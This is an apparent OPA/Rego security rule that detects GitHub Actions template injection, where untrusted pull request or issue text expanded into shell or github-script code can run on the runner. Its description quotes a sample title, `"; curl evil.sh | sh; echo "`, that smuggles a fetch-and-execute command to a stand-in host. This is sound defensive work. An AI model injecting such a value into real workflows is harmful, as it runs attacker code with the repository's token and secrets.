# METADATA
# title: Text a stranger writes is expanded into a script
# description: >-
#   GitHub replaces `${{ }}` before the shell (or actions/github-script's JavaScript) sees the
#   script, so a pull request title such as `"; curl evil.sh | sh; echo "` becomes code that
#   runs on the runner, with the job's token and secrets. Titles, bodies, branch names,
#   comments, commit messages and wiki page names are all written by whoever opens the pull
#   request, issue or comment. The severity follows who can start the run: CRITICAL for
#   triggers that run with the base repository's secrets (`pull_request_target`,
#   `workflow_run`, `issues`, `issue_comment`, discussions), HIGH for pull requests and actions,
#   LOW otherwise.
# scope: package
# related_resources:
#   - https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
#   - https://securitylab.github.com/resources/github-actions-untrusted-input/
# custom:
#   id: GHA-001
#   severity: CRITICAL
#   recommended_action: 'Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`) and use it quoted in the script (`"$TITLE"`, or `process.env.TITLE` in github-script).'
#   input:
#     selector:
#       - type: github_workflow
#       - type: github_action
#   frameworks:
#     nist-800-53-r5: ["SI-10"]
#     soc2: ["CC8.1"]
package rampart.github.template_injection

import rego.v1

import data.rampart.lib.github

deny contains {"msg": msg, "path": ["expressions", k], "severity": severity} if {
	some k, e in input.expressions
	where := sink(e.path)
	some ctx in e.contexts
	github.attacker_controlled(ctx)
	severity := reach
	msg := sprintf(
		"%s: `${{ %s }}` expands %s into %s%s; pass it through an environment variable instead",
		[github.at(e), e.expr, ctx, where, reason],
	)
}

# A step's `run:` script.
sink(path) := "a shell script" if {
	count(path) >= 2
	path[count(path) - 1] == "run"
	path[count(path) - 3] == "steps"
}

# The `script` of actions/github-script.
sink(path) := "github-script's JavaScript" if {
	count(path) >= 4
	path[count(path) - 1] == "script"
	path[count(path) - 2] == "with"
	some [step_path, step] in github.steps
	step_path == array.slice(path, 0, count(path) - 2)
	github.step_uses(step, "actions", "github-script")
}

reach := "CRITICAL" if github.privileged

reach := "HIGH" if {
	not github.privileged
	github.untrusted
}

reach := "HIGH" if input.runs

reach := "LOW" if {
	not github.privileged
	not github.untrusted
	not input.runs
}

reason := sprintf(" (a `%s` run, with the repository's secrets)", [github.privileged_trigger]) if github.privileged

reason := " (a pull request run)" if {
	not github.privileged
	github.untrusted
}

reason := "" if {
	not github.privileged
	not github.untrusted
}
